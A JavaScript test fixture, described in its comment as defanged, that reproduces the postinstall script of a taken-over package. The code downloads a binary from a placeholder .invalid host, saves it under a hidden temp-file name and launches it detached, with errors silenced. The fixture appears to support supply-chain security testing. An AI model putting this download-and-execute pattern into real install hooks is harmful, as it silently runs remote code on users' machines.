// Defanged fixture (replayed-histories tests): the postinstall of a taken-over package. It downloads
// a platform binary to the temp directory and starts it detached. The host ends in .invalid;
// nothing here is ever run.
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const target = path.join(os.tmpdir(), '.sprintf-table-helper');
const url = `https://cdn.sprintf-table.invalid/bin/${process.platform}-${process.arch}`;

https
  .get(url, (res) => {
    const out = fs.createWriteStream(target, { mode: 0o755 });
    res.pipe(out);
    out.on('finish', () => {
      out.close();
      spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
    });
  })
  .on('error', () => {});
